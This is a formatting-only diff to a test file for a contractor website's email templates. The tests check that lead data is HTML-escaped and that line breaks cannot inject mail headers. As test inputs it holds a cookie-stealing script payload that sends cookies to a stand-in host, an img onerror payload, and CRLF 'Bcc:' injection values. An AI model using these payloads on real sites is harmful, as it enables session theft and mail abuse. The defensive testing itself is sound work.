@@ -109,9 +109,7 @@ describe("leadNotificationMail", () => {
     expect(evil.html).not.toMatch(/<script/i);
     expect(evil.html).not.toMatch(/<img/i);
     expect(evil.html).not.toMatch(/<b>555/);
-    expect(evil.html).toContain(
-      "&lt;script&gt;document.location=&#39;https://evil.example/&#39;+document.cookie&lt;/script&gt;",
-    );
+    expect(evil.html).toContain("&lt;script&gt;document.location=&#39;https://evil.example/&#39;+document.cookie&lt;/script&gt;");
     expect(evil.html).toContain("&lt;img src=x onerror=alert(1)&gt; &amp; &quot;quotes&quot; &#39;single&#39;");
     expect(evil.text).toContain(hostile.message);
     // The only tags are the template's own.
@@ -122,10 +120,7 @@ describe("leadNotificationMail", () => {
   });
 
   test("line breaks in the subject or name cannot reach a header", () => {
-    const split = leadNotificationMail(
-      { ...lead, subject: "Hi\r\nBcc: victim@example.org", from_name: "A\nB" },
-      options,
-    );
+    const split = leadNotificationMail({ ...lead, subject: "Hi\r\nBcc: victim@example.org", from_name: "A\nB" }, options);
     expect(split.subject).toBe("New estimate request: Hi Bcc: victim@example.org — A B");
     expect(split.subject).not.toMatch(/[\r\n]/);
     expect(split.replyTo).not.toMatch(/[\r\n]/);
@@ -171,16 +166,12 @@ describe("leadNotificationMail", () => {
       expect(sent.html.indexOf(`<a href="${link}"`)).toBeLessThan(sent.html.indexOf("<table"));
     }
     // A siteUrl without a trailing slash gives the same link.
-    expect(leadNotificationMail(lead, { ...options, siteUrl: "https://www.example.com" }).text).toContain(
-      `Open the request: ${link}\n`,
-    );
+    expect(leadNotificationMail(lead, { ...options, siteUrl: "https://www.example.com" }).text).toContain(`Open the request: ${link}\n`);
   });
 
   test("the first lines name the service, the ZIP with in or outside the area, and the photo count", () => {
     const inside = leadNotificationMail({ ...lead, zip: "77008", in_service_area: 1 }, { ...options, photoCount: 1 });
-    expect(inside.text).toContain(
-      "Service: Bathroom remodel\nZIP: 77008 (in your service area)\nPhotos: 1 (on the request's page)\n",
-    );
+    expect(inside.text).toContain("Service: Bathroom remodel\nZIP: 77008 (in your service area)\nPhotos: 1 (on the request's page)\n");
     expect(inside.html).toContain(
       "Service: Bathroom remodel<br>ZIP: 77008 (in your service area)<br>Photos: 1 (on the request&#39;s page)",
     );
@@ -188,9 +179,7 @@ describe("leadNotificationMail", () => {
     expect(outside.text).toContain("ZIP: 77494 (outside your service area)\nPhotos: none\n");
     expect(outside.html).toContain("ZIP: 77494 (outside your service area)<br>Photos: none");
     // No service area listed: the ZIP alone.
-    expect(leadNotificationMail({ ...lead, zip: "77008", in_service_area: null }, options).text).toContain(
-      "ZIP: 77008\n",
-    );
+    expect(leadNotificationMail({ ...lead, zip: "77008", in_service_area: null }, options).text).toContain("ZIP: 77008\n");
     // A hostile service name stays one escaped line.
     const hostile = leadNotificationMail({ ...lead, subject: "<b>Deck</b>\r\nBcc: x@example.org" }, options);
     expect(hostile.text).toContain("Service: <b>Deck</b> Bcc: x@example.org\n");
@@ -239,13 +228,7 @@ describe("leadConfirmationMail", () => {
   });
 
   test("includes a copy of what they sent", () => {
-    for (const value of [
-      "Maria Gonzalez",
-      "maria@example.net",
-      "(832) 555-0199",
-      "Bathroom remodel",
-      "We are home after 4 pm.",
-    ]) {
+    for (const value of ["Maria Gonzalez", "maria@example.net", "(832) 555-0199", "Bathroom remodel", "We are home after 4 pm."]) {
       expect(mail.text).toContain(value);
       expect(mail.html).toContain(escapeHtml(value));
     }
@@ -302,9 +285,9 @@ describe("senderAddress", () => {
     expect(senderAddress({ mailFrom: "estimates@bayoubuilders.test", publicUrl, name: "Bayou City Builders" })).toBe(
       '"Bayou City Builders" <estimates@bayoubuilders.test>',
     );
-    expect(
-      senderAddress({ mailFrom: "Office <office@bayoubuilders.test>", publicUrl, name: "Bayou City Builders" }),
-    ).toBe("Office <office@bayoubuilders.test>");
+    expect(senderAddress({ mailFrom: "Office <office@bayoubuilders.test>", publicUrl, name: "Bayou City Builders" })).toBe(
+      "Office <office@bayoubuilders.test>",
+    );
   });
 
   test("a name cannot break out of its quotes or add a header line", () => {
@@ -327,9 +310,7 @@ describe("testEmailMail", () => {
   test("goes to the inbox it tests, names the site and who sent it", () => {
     expect(mail.to).toBe("owner@bayoubuilders.test");
     expect(mail.subject).toBe("Test email from the Bayou City Builders website");
-    expect(mail.text).toContain(
-      "Pat Owner sent it from the admin dashboard on Sunday, November 22, 2026 at 10:05 AM CST.",
-    );
+    expect(mail.text).toContain("Pat Owner sent it from the admin dashboard on Sunday, November 22, 2026 at 10:05 AM CST.");
     expect(mail.text).toContain("https://www.bayoubuilders.test");
     expect(mail.html).toContain("estimate requests from the website will reach it too");
     expect(mail.template.kind).toBe("test-email");
@@ -369,12 +350,7 @@ describe("the optional details and where the request came from", () => {
     expect(mail.text).toContain("Address:    1234 Heights Blvd <b>");
     expect(mail.text).toContain("Contact by: A text message");
     expect(mail.text).toContain("Best time:  Weekdays after 5 pm");
-    for (const value of [
-      "77008 (in your service area)",
-      "1234 Heights Blvd &lt;b&gt;",
-      "A text message",
-      "Weekdays after 5 pm",
-    ]) {
+    for (const value of ["77008 (in your service area)", "1234 Heights Blvd &lt;b&gt;", "A text message", "Weekdays after 5 pm"]) {
       expect(mail.html).toContain(value);
     }
     expect(mail.html).not.toContain("<b>");
